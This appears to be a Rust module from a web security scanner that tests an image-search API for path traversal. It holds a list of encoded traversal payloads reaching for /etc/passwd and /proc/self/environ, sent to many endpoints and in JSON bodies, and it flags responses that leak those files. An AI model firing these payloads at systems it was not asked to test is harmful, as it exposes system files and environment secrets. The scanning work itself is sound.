//! Addresses that would lead out of where files are served from.

use std::time::Duration;

use crate::raw::{Raw, status};
use crate::target::{Answers, Outcome, Target};

const PATIENCE: Duration = Duration::from_secs(10);
/// Where a file or folder is named in an address.
const PLACES: [&str; 11] = [
    "/",
    "/assets/",
    "/docs/",
    "/api/v1/images/",
    "/api/v1/images/ID/",
    "/api/v1/searches/",
    "/api/v1/classifiers/",
    "/api/v1/evaluations/",
    "/api/v1/backup/",
    "/api/v1/indexer/folders/",
    "/api/v1/models/",
];
const WAYS: [&str; 14] = [
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%5c..%5c..%5c..%5cetc%5cpasswd",
    "....//....//....//....//etc/passwd",
    "/etc/passwd",
    "%2fetc%2fpasswd",
    "%2fetc%2fpasswd/thumbnail",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "%00/etc/passwd",
    "index.html%00../../../../etc/passwd",
    "file:%2f%2f%2fetc%2fpasswd",
];

pub fn traversal(target: &Target) -> Outcome {
    let mut answers = Answers::default();
    for place in PLACES {
        for way in WAYS {
            let address = format!("{}{way}", place.replace("ID", &target.photo));
            answers.note(told(target, target.head("GET", &address, "").as_bytes()));
        }
    }
    for file in ["/etc/passwd", "../../../etc/passwd", "file:///etc/passwd", "/proc/self/environ"] {
        for (address, body) in named(file) {
            answers.note(told(target, &target.post(address, "application/json", "", body.as_bytes())));
        }
        let folders = format!("/api/v1/indexer/folders?path={}", file.replace('/', "%2f"));
        answers.note(told(target, target.head("GET", &folders, "").as_bytes()));
    }
    answers.into()
}

/// Bodies that name a file.
fn named(file: &str) -> [(&'static str, String); 3] {
    [
        ("/api/v1/evaluations", format!("{{\"dataset\": \"{file}\", \"templates\": [\"{{}}\"]}}")),
        ("/api/v1/rank", format!("{{\"query\": \"a\", \"paths\": [\"{file}\"]}}")),
        ("/clip/embed_image", format!("{{\"image\": {{\"type\": \"url\", \"value\": \"{file}\"}}}}")),
    ]
}

fn told(target: &Target, request: &[u8]) -> String {
    let Some(mut raw) = Raw::open(target) else { return "not taken".to_owned() };
    raw.send(request);
    let answer = raw.read_all(PATIENCE);
    let holds = |words: &[u8]| answer.windows(words.len()).any(|window| window.eq_ignore_ascii_case(words));
    match status(&answer) {
        _ if holds(b"root:") || holds(b"HOME=") => "a file of the machine".to_owned(),
        Some(200) if holds(b"<!doctype html") => "the page".to_owned(),
        Some(status) => status.to_string(),
        None => "closed".to_owned(),
    }
}
